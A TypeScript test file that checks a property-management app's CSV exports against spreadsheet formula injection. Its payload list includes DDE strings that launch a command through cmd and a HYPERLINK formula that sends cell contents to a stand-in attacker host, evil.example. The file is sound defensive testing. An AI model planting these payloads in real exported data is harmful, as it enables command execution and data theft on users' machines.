import { db } from '@ilewa/server/platform/database/database'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { businessCalls } from '../support/access/access-table.ts'
import { aWorld, type World } from '../support/access/access-world.ts'
import { readContract } from '../support/access/contract.ts'
import { markEverything } from '../support/access/tampering.ts'
import { aPastStay } from '../support/app/past-stays.ts'
import { useTestApp } from '../support/app/test-app.ts'

const app = useTestApp()
const contract = await readContract()
/** Files with parameters are import templates, which contain no user input. */
const files = [...contract.values()].filter(({ file, params }) => file === 'text/csv' && !params)

let world: World
beforeAll(async () => {
  world = await aWorld(app)
  await aPastStay(world.owner, { property: world.property, nights: [-9, -6], total: 90_000 })
})

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"here")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '"=1+1"',
  "'=1+1",
  '`=1+1',
  'a\n=1+1',
  'x",=1+1,"y',
]

const runs = /^[\s\p{Cf}"`]*[=+\-@\t\r＝＋－＠]/u
const number = /^-?\d+(\.\d+)?$/

describe.each(files)('the file of $path', (definition) => {
  const row = businessCalls.find(({ call }) => call === `${definition.method} ${definition.path}`)
  const tables = definition.path.startsWith('/analytics')
    ? ['properties', 'trend', 'months', 'sources', 'guests']
    : [undefined]

  const cellsOf = async (table: string | undefined) => {
    const query = { ...row?.query?.(world), ...(table && { table }) }
    const { status, body } = await app.send(definition, { query }, { token: world.tokens.owner })
    expect(status).toBe(200)
    const lines: string[][] = parse(String(body.data), { bom: true })
    expect(lines.length).toBeGreaterThan(1)
    return lines.flat()
  }

  it.each(formulas)('does not let a spreadsheet run %j', async (formula) => {
    await markEverything(world.owner, formula)
    await db().execute(
      sql`UPDATE inventory_items SET category = ${formula}, location = ${formula} WHERE business_id = ${world.owner.businessId}`,
    )
    // Only the properties table contains user input.
    for (const table of formula === formulas[0] ? tables : [tables.find((name) => name === 'properties')]) {
      for (const cell of await cellsOf(table)) expect(runs.test(cell) && !number.test(cell), cell).toBe(false)
    }
  })

  it.each(['x;=1+1', 'x;"=1+1";y', "x;'=1+1", 'x\t@SUM(1)', 'x\n=1+1', 'x; +1+1'])(
    'does not let a spreadsheet run %j where cells are separated by semicolons or tabs',
    async (text) => {
      await markEverything(world.owner, text)
      const query = { ...row?.query?.(world), ...(tables[0] && { table: 'properties' }) }
      const { body } = await app.send(definition, { query }, { token: world.tokens.owner })
      expect(String(body.data)).toMatch(/"x[;\t\n]/)
      for (const delimiter of [';', '\t']) {
        const reading = { delimiter, bom: true, relax_quotes: true, relax_column_count: true }
        const lines: string[][] = parse(String(body.data), reading)
        // Our cells begin with a quote there, which makes them text.
        for (const cell of lines.flat()) expect(/^[\s\p{Cf}`]*"?[=@+＝＠]/u.test(cell), cell).toBe(false)
      }
    },
  )

  it('does not change numbers', async () => {
    for (const table of tables) {
      const cells = await cellsOf(table)
      expect(cells.some((cell) => number.test(cell))).toBe(true)
      expect(cells.filter((cell) => /^'-?\d+(\.\d+)?$/.test(cell))).toEqual([])
    }
  })
})
